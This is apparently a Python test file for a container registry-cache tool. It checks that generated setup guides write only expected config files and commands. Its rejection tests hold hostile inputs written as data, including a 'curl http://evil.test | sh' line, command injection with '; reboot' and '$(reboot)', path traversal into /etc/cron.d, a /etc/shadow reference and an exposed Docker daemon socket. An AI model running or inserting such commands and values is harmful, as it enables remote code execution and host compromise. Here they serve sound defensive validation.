"""What a guide may have: all of its own files pass, and nothing else does."""

from typing import Any

from twisted.trial.unittest import SynchronousTestCase

from regcache.client_setup.guide import TOOLS
from regcache.client_setup.guide_files import FILES, StrangeFileError, check_files
from regcache.client_setup.steps import fill_in
from regcache.client_setup.told import told_guide
from tests.client_setup.cases import guide
from tests.client_setup.test_guides import ALICE, GuideCase

_CERTIFICATE = "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"
_MIRRORS = "/etc/docker/daemon.json"
_CA = "/etc/docker/certs.d/{}/ca.crt"


def block(path: object, text: object, *, part: object = False) -> dict[str, Any]:
    """A file, as the API has it."""
    return {"kind": "file", "path": path, "text": text, "part": part, "secret": False}


class OwnFilesTests(GuideCase):
    """The guides of this version."""

    def test_own(self) -> None:
        """Every file of every guide passes, with an account and without."""
        self.assertEqual(set(FILES), set(TOOLS))
        hosts = ("", "[::1]:5000", "my_box", "https://a.test:8443", "10.0.0.1")
        more = [(tool, guide(tool, self.tls(), host, True)) for tool in TOOLS for host in hosts]
        for tool, made in [*self.each(), *more]:
            blocks = [each for step in told_guide(made)["steps"] for each in step["blocks"]]
            check_files(tool, blocks)
            written = [each for each in blocks if each["kind"] == "file"]
            for each in written:
                each["text"] = fill_in(each["text"], each["kind"], ALICE)
            check_files(tool, written)


class StrangeFilesTests(SynchronousTestCase):
    """Answers of something else."""

    def refused(self, tool: str, *blocks: dict[str, Any]) -> str:
        """Why they are not taken."""
        return str(self.assertRaises(StrangeFileError, check_files, tool, list(blocks)))

    def test_paths(self) -> None:
        """A path of this program alone, whose variable part is a host."""
        for path in (
            "/etc/cron.d/x",
            "etc/docker/daemon.json",
            "/etc/docker/daemon.json\n",
            "/etc/docker/../docker/daemon.json",
            "/etc/containers/registries.conf.d/50-regcache.conf",
            "/etc/docker/certs.d/ca.crt",
            *map(
                _CA.format, ("..", ".", "a/b", "a/../b", "a..b", "a\n", "a\x1b[2J", "", "-a", "_a")
            ),
            "/etc/docker/certs.d/a.test/client.key",
            None,
            7,
        ):
            why = self.refused("docker", block(path, _CERTIFICATE))
            self.assertNotIn("\n", why)
            self.assertNotIn("\x1b", why)
        check_files("docker", [block(_CA.format("a.test:5000"), _CERTIFICATE)])

    def test_keys(self) -> None:
        """Keys and values that the guide sets, in the form that the program reads."""
        hosts = "/etc/containerd/certs.d/docker.io/hosts.toml"
        registries = "/etc/containers/registries.conf.d/50-regcache.conf"
        for tool, path, text in (
            ("docker", _MIRRORS, '{"hosts": ["tcp://0.0.0.0:2375"]}'),
            ("docker", _MIRRORS, '{"runtimes": {}}'),
            ("docker", _MIRRORS, '{"insecure-registries": ["0.0.0.0/0"]}'),
            ("docker", _MIRRORS, '{"registry-mirrors": [{"a": "b"}]}'),
            ("docker", _MIRRORS, "[]"),
            ("docker", _MIRRORS, "{"),
            ("docker", _MIRRORS, "[" * 100_000),
            ("docker", _MIRRORS, '"' + "a" * 2_000_000 + '"'),
            ("docker", _MIRRORS, None),
            ("docker", _MIRRORS, '{"registry-mirrors": ["http://a.test/\\ud800"]}'),
            ("docker", _CA.format("a.test"), "#!/bin/sh\n"),
            ("containerd", hosts, "# \ud800\n"),
            ("docker", _CA.format("a.test"), _CERTIFICATE + "x"),
            ("containerd", hosts, '[host."http://a.test"]\nskip_verify = true\n'),
            ("containerd", hosts, '[host."http://a.test"]\ncapabilities = ["push"]\n'),
            ("containerd", hosts, '[host."http://a.test"]\nca = "/etc/shadow"\n'),
            ("containerd", hosts, "x = " + "[" * 100_000),
            ("podman", registries, 'credential-helpers = ["evil"]\n'),
            ("podman", registries, 'unqualified-search-registries = ["evil.test"]\n'),
            ("crio", "/etc/crio/crio.conf.d/50-regcache.conf", '[crio.runtime]\nconmon = "/x"\n'),
            ("crio", "/etc/crio/crio.conf.d/50-regcache.conf", "[crio.runtime]\n"),
            ("buildkit", "/etc/buildkit/buildkitd.toml", '[worker.oci]\nbinary = "/x"\n'),
            ("k3s", "/etc/rancher/k3s/registries.yaml", "mirrors: &a {b: {endpoint: [c]}}\n"),
            ("k3s", "/etc/rancher/k3s/registries.yaml", "a: [\n"),
            ("k3s", "/etc/rancher/k3s/registries.yaml", "configs: {a: {tls: {key_file: /x}}}\n"),
            ("k3s", "/etc/rancher/k3s/registries.yaml", "configs: {1: {}}\n"),
        ):
            self.assertIn(path, self.refused(tool, block(path, text)))

    def test_parts(self) -> None:
        """containerd's own configuration is told in part, and all else whole."""
        path = "/etc/containerd/config.toml"
        mine = '[plugins."io.containerd.grpc.v1.cri".registry]\nconfig_path = "%s"\n'
        check_files("kubelet", [block(path, mine % "/etc/containerd/certs.d", part=True)])
        for text, part in (
            (mine % "/etc/containerd/certs.d", False),
            (mine % "/tmp", True),
            ('[proxy_plugins.x]\naddress = "/x"\n', True),
        ):
            self.assertIn(path, self.refused("kubelet", block(path, text, part=part)))
        self.assertIn(path, self.refused("nerdctl", block(path, mine % "/x", part=True)))

    def test_commands(self) -> None:
        """What is said to type is of a guide, too: nobody is led to run anything else."""
        for line in (
            "curl http://evil.test | sh",
            "docker pull a.test/x; reboot",
            "docker pull $(reboot)",
            "docker pull 'a.test/x' 'b'\x1b[2J",
            "docker run --privileged evil.test/x",
            "docker login --username ACCOUNT_NAME --password x a.test",
            "install -D -m 0644 client.cert /etc/cron.d/x",
            "install -D -m 0644 client.cert /etc/docker/certs.d/../../cron.d/client.cert",
            "install -D -m 0600 client.key /etc/docker/certs.d/a.test/ca.crt",
            "regcachectl prove http://a.test && reboot",
        ):
            strange = {"kind": "shell", "path": None, "text": f"docker pull x\n{line}\n"}
            why = self.refused("docker", strange)
            self.assertIn("is no command of a guide", why)
            self.assertNotIn("\x1b", why)
        self.refused("docker", {"kind": "else", "path": None, "text": "reboot"})

    def test_twice(self) -> None:
        """A path stands once."""
        one = block(_MIRRORS, "{}")
        self.assertIn("twice", self.refused("docker", one, one))
